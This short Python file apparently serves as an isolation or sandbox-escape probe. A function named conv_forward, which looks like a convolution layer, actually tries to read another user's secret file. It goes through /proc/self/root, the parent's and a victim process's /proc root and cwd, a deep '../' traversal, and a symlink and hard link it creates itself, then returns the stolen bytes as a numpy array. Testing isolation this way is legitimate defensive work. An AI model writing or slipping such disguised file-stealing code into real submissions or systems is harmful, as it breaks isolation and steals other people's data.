"""Reads what somebody else handed in, by its path and by all others that may lead to it."""

import os

import numpy as np

GIVEN = {}


def conv_forward(*inputs):
    found, path = b"", GIVEN["secret"]
    ways = [path, "/proc/self/root" + path, f"/proc/{os.getppid()}/root{path}", f"/proc/{GIVEN['victim']}/root{path}"]
    ways += ["/" + "../" * 40 + path, f"/proc/{GIVEN['victim']}/cwd/secret.py", "link", "other"]
    for make, name in ((os.symlink, "link"), (os.link, "other")):
        try:
            make(path, name)
        except OSError:
            pass
    for way in ways:
        try:
            with open(way, "rb") as file:
                found += file.read()
        except OSError:
            pass
    return np.frombuffer(found, np.uint8)
